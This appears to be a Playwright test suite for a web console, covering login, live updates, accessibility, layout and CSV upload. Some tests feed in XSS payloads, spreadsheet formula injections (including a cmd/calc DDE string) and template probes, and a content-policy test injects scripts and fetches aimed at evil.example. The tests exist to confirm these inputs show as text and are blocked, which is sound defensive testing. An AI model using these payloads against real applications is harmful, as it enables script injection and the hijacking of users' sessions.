"""The console in Chromium: every view, live, light and dark, wide and narrow, by keyboard, and nothing foreign."""

from __future__ import annotations

import time
from urllib.parse import quote

import pytest
from axe_playwright_python.sync_playwright import Axe
from chromium import launch
from playwright.sync_api import expect, sync_playwright
from system import skip_without

LOG = "decided_at,feedback_at\n" + "\n".join(f"{i},{i + 1 + i * 7 % 23}" for i in range(100))
# What a caller may write into names, ids, features and labels: none of it is markup.
HOSTILE = "<img src=x onerror=alert(1)>"
TEXTS = [
    HOSTILE,
    "<script>alert(2)</script>",
    "<svg onload=alert(3)>",
    '"><b onclick=alert(4)>x</b>',
    "javascript:alert(5)",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}}${7*7}",
]
MARKUP = "main :is(img, script, b, iframe, [onload], [onerror], [onclick], a[href^=javascript], a[href*=evil])"


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    skip_without("chromium", "fonts-dejavu-core")
    with sync_playwright() as playwright:
        browser = launch(playwright, "DejaVu Sans", tmp_path_factory.mktemp("fonts"))
        yield browser
        browser.close()


@pytest.fixture
def page(browser, served, request):
    """A page with a token, which fails its test on any message, error, or request to another host."""
    look = getattr(request, "param", {"color_scheme": "light", "viewport": {"width": 1280, "height": 900}})
    context = browser.new_context(**look)
    page, heard = context.new_page(), []
    # A browser itself writes a line about an answer that refuses.
    refusals = ("status of 404", "status of 422")
    page.on("console", lambda said: None if any(end in said.text for end in refusals) else heard.append(said.text))
    page.on("pageerror", lambda error: heard.append(str(error)))
    page.on("dialog", lambda dialog: heard.append(f"dialog: {dialog.message}"))
    page.on("request", lambda call: None if call.url.startswith(served.url) else heard.append(call.url))
    page.goto(f"{served.url}/")
    page.get_by_label("Token").fill(served.token)
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="Overview").wait_for()
    yield page
    context.close()
    assert heard == []


LOOKS = [
    {"color_scheme": scheme, "viewport": {"width": width, "height": 900}}
    for scheme, width in (("light", 1280), ("dark", 400))
]


def visit(page, served, place):
    page.goto(f"{served.url}/console/#/{place}")


def test_a_page_without_a_token_asks_for_one(browser, served):
    page = browser.new_page()
    page.goto(f"{served.url}/")
    page.get_by_label("Token").fill("tarry_wrong")
    page.get_by_role("button", name="Continue").click()
    expect(page.get_by_role("alert")).to_have_text("The server does not know this token.")
    page.close()


def test_a_label_is_seen_within_a_second(page, served, join):
    ids = [HOSTILE, f"{HOSTILE}b", f"{HOSTILE}c"]
    for id in ids:
        served.call("POST", f"{join}/decide", {"id": id, "features": HOSTILE})
    visit(page, served, join.removeprefix("/v1/"))
    expect(page.get_by_text("2 of 2 slots are held.")).to_be_visible()
    tracked = served.call("GET", f"{join}/tracked")[1]["tracked"][0]["id"]
    page.get_by_text("Live.").wait_for()
    begun = time.monotonic()
    served.call("POST", f"{join}/label", {"id": tracked, "label": 1})
    page.get_by_text("1 of 2 slots are held.").wait_for(timeout=5000)
    assert time.monotonic() - begun < 3.0  # a second, and what a busy machine adds
    expect(page.get_by_role("region", name="Newest first").get_by_text(HOSTILE).first).to_be_visible()
    for chart in ("Stays in slots over time", "The weight of each arrival over time"):
        expect(page.get_by_label(chart)).to_be_visible()


def test_markup_and_formulas_are_shown_as_text(page, served):
    """Ids, features, labels, columns of a file and parts of the address: none becomes a part of the page."""
    served.call("POST", "/v1/joins/texts", {"capacity": 16})
    for text in TEXTS:
        served.call("POST", "/v1/joins/texts/decide", {"id": text, "features": {text: text}})
    visit(page, served, "joins/texts")
    page.get_by_text("Live.").wait_for()
    for text in TEXTS[:4]:  # of all that happens, the last twelve are shown
        served.call("POST", "/v1/joins/texts/label", {"id": text, "label": text})
    calls = page.get_by_role("region", name="Newest first")
    for text in TEXTS:
        expect(calls.get_by_text(text, exact=True).first).to_be_visible()
    expect(page.locator(MARKUP)).to_have_count(0)
    for text in TEXTS[:3]:
        visit(page, served, f"joins/{quote(text, safe='')}")
        expect(page.get_by_role("alert")).to_be_visible(timeout=30_000)
        expect(page.locator(MARKUP)).to_have_count(0)
    visit(page, served, "plan")
    columns = ",".join('"' + text.replace('"', '""') + '"' for text in TEXTS)
    file = {"name": f"{HOSTILE}.csv", "mimeType": "text/csv", "buffer": f"{columns}\n{columns}\n".encode()}
    page.get_by_label("Drop a CSV here").set_input_files(file)
    expect(page.get_by_role("alert")).to_contain_text("column", timeout=30_000)
    expect(page.locator(MARKUP)).to_have_count(0)


def test_the_content_policy_is_enforced(browser, served):
    """Code, pictures, styles and calls that a page was tricked into are stopped by the browser."""
    page = browser.new_page()
    foreign = []
    page.on("response", lambda answer: None if answer.url.startswith(served.url) else foreign.append(answer.url))
    page.goto(f"{served.url}/")
    seen, hit = page.evaluate(
        """async () => {
            const seen = new Set();
            document.addEventListener("securitypolicyviolation", (event) => seen.add(event.effectiveDirective));
            const add = (tag, parts) => document.body.append(Object.assign(document.createElement(tag), parts));
            add("script", { textContent: "window.hit = 'inline'" });
            add("script", { src: "http://evil.example/x.js" });
            add("img", { src: "http://evil.example/x.png" });
            add("style", { textContent: "main { display: none }" });
            add("iframe", { src: "http://evil.example/" });
            add("div", { id: "trap", innerHTML: "<p onclick=\\"window.hit = 'attribute'\\">x</p>" });
            document.querySelector("#trap p").click();
            await fetch("http://evil.example/").catch(() => null);
            setTimeout("window.hit = 'text'", 0);  // eval itself is allowed to whoever drives the browser
            await new Promise((done) => setTimeout(done, 300));
            return [[...seen].sort(), window.hit ?? null];
        }"""
    )
    stopped = {"script-src", "script-src-elem", "script-src-attr", "img-src", "style-src-elem", "frame-src"}
    assert (hit, {*stopped, "connect-src"} - set(seen), foreign) == (None, set(), [])
    page.close()


def test_two_labels_move_the_mean(page, served, join):
    visit(page, served, join.removeprefix("/v1/"))
    page.get_by_text("Nothing yet.").first.wait_for()
    for id, label in (("a", 1), ("b", 0)):
        served.call("POST", f"{join}/decide", {"id": id})
        served.call("POST", f"{join}/label", {"id": id, "label": label})
    expect(page.get_by_label("The estimated mean label with its 95 % interval")).to_be_visible()


@pytest.mark.parametrize("page", LOOKS, indirect=True, ids=["light", "dark, narrow"])
def test_every_view_is_accessible_and_fits(page, served, join):
    served.call("POST", f"{join}/decide", {"id": "a"})
    served.call(
        "POST",
        "/v1/sessions/plays",
        {
            "domain": {"type": "Ball", "dimension": 2},
            "player": {"learner": {"type": "DWFTRL", "rate": 0.5}},
            "capacity": 4,
        },
    )
    views = {
        "": page.get_by_role("link", name="plays"),
        join.removeprefix("/v1/"): page.get_by_label("Stays in slots over time"),
        "sessions/plays": page.get_by_text("0 of 4 slots are held."),
        "plan": page.get_by_label("Drop a CSV here"),
    }
    for place, shown in views.items():
        visit(page, served, place)
        shown.first.wait_for(timeout=60_000)
        found = Axe().run(page)
        assert found.violations_count == 0, found.generate_report()
        wide = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide <= 0, f"{place} is {wide} pixels wider than the window"


@pytest.mark.parametrize(
    "page", [{"viewport": {"width": width, "height": 900}} for width in (1200, 400)], indirect=True
)
def test_a_sample_command_is_shown_in_full_and_copied(page, served):
    empty = {"items": [], "next": None}
    page.route("**/v1/sessions", lambda route: route.fulfill(json=empty))
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.reload()
    command = page.locator("pre.command", has_text="/v1/sessions/main")
    command.wait_for()
    assert command.evaluate("it => it.scrollWidth - it.clientWidth") <= 0
    command.locator("xpath=following-sibling::button").click()
    page.get_by_text("Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == command.inner_text()


def test_a_plan_from_a_file(page, served):
    visit(page, served, "plan")
    page.get_by_label("Drop a CSV here").set_input_files(
        {"name": "log.csv", "mimeType": "text/csv", "buffer": LOG.encode()}
    )
    page.get_by_label("Effective sample size by capacity").wait_for(timeout=120_000)
    assert "slots with" in page.locator("main strong").inner_text()
    assert "keep them all" in page.locator("main").inner_text()


def test_a_file_that_is_no_log_is_refused_in_a_sentence(page, served):
    visit(page, served, "plan")
    page.get_by_label("Drop a CSV here").set_input_files(
        {"name": "log.csv", "mimeType": "text/csv", "buffer": b"a,b\n1,2\n"}
    )
    expect(page.get_by_role("alert")).to_contain_text("column", timeout=30_000)


def test_the_keyboard_reaches_a_join(page, served, join):
    name = join.rsplit("/", 1)[1]
    visit(page, served, "")
    page.get_by_role("link", name=name, exact=True).wait_for()
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent") == name:
            break
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name=name, exact=True)).to_be_visible()
